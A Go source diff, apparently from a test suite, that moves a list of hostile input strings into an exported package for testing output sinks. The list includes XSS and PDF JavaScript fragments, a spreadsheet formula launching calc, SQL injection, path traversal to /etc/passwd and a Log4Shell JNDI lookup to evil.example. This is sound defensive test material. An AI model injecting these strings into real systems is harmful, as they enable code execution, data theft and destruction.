@@ -1,10 +1,12 @@
-package mail_test
+// Package hostiletest is a corpus of text that people could type to break out of
+// where it is shown; every sink is tested with all of it.
+package hostiletest
 
 import "strings"
 
-// payloads are values that people could type to break out of where a mail shows
-// them: headers, text, HTML, templates, terminals, spreadsheets.
-func payloads() []string {
+// Payloads break out of headers, text, HTML, templates, terminals, spreadsheets and
+// documents that take what people type for their own syntax.
+func Payloads() []string {
 	return []string{
 		// HTML and its attributes
 		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg/onload=alert(1)>`, `'><b>bold</b>`,
@@ -22,6 +24,8 @@ func payloads() []string {
 		// what is not seen
 		"gpj.\u202eexe\u202c", "\u2066\u2067a\u2068b\u2069", "pay\u200bpal\u200d.\ufeffexample", "\u200b\u200e\u200f", "a\u00adb\u034fc\u180ed", "\U000e0041\U000e0042x",
 		"\u3164\u2800", "Z" + strings.Repeat("\u0301", 40), "مرحبا <b>שלום</b> 123", "علی\u200cرضا", "👩\u200d💻 & Söhne",
+		// documents
+		`) Tj ET Q /JS (app.alert(1)) (`, `\\) >> endobj 1 0 obj <</Type/Action/S/JavaScript`, `%PDF-1.7 %%EOF`, `endstream endobj trailer`, `{nb}`, `中文有限公司 あ 한국`,
 		// other sinks
 		`=cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `@SUM(A1)`, "\t=1", `'; DROP TABLE users;--`, `../../etc/passwd`, `\\evil\share`, `${jndi:ldap://evil.example/a}`,
 		`https://evil.example/?a=1&b=2#c`, `Ann <ann@evil.example>`, strings.Repeat("W", 500), strings.Repeat("🙂", 300), strings.Repeat("<", 200),
